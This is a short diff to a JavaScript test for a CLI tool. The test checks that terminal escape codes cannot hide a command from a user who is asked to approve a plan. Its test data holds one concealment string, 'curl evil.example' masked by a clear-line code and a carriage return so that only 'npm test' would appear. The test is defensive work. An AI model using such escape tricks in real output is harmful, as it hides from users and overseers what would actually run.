@@ -144,5 +144,5 @@ test('a plan cannot hide what it would run from the one who is asked to trust it
   const asked = await cli.run(project, 'patch', '--plain')
   expect(asked.exitCode).toBe(3)
   expect(asked.output).not.toContain('\u001b')
-  expect(asked.output).toContain('curl evil.example \\u001b[2K\\u000d npm test')
+  expect(asked.output).toContain('curl evil.example ‹U+001B›[2K‹U+000D› npm test')
 })
